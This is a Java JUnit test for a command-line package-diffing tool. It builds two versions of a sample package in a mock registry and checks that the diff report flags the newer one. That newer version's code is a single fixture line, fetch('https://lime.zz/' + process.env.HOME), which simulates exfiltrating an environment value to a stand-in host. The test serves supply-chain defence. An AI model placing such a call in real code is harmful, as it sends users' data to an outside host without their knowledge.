package dev.assay.web.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.samples.SamplePackage;

import example.brick.BrickYard;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

/** A command knows an ecosystem that declares itself. */
class NinthEcosystemCommandLineTest {

    @TempDir private Path folder;

    @Test
    void comparesTwoVersionsOfIt() throws Exception {
        var error = new StringWriter();
        var report = folder.resolve("report");
        try (var yard = new BrickYard()) {
            yard.lay("wall", 1, brick("up();\n"));
            yard.lay("wall", 2, brick("fetch('https://lime.zz/' + process.env.HOME);\n"));
            System.setProperty("assay.upstream.brick.url", yard.url().toString());
            System.setProperty("assay.cache-directory", folder.resolve("cache").toString());
            AssayCommand.commandLine()
                    .setErr(new PrintWriter(error, true))
                    .execute(
                            "diff",
                            "pkg:brick/wall@1",
                            "pkg:brick/wall@2",
                            "--closure",
                            "--output",
                            report.toString());
        } finally {
            System.clearProperty("assay.upstream.brick.url");
            System.clearProperty("assay.cache-directory");
        }

        assertThat(error.toString()).isEmpty();
        assertThat(Files.readString(report)).contains("lime.zz");
    }

    private static byte[] brick(String code) {
        return SamplePackage.of(
                        Map.of(
                                "package.json",
                                "{\"name\":\"wall\",\"version\":\"1.0.0\",\"main\":\"i.js\"}",
                                "i.js",
                                code))
                .tarball();
    }
}
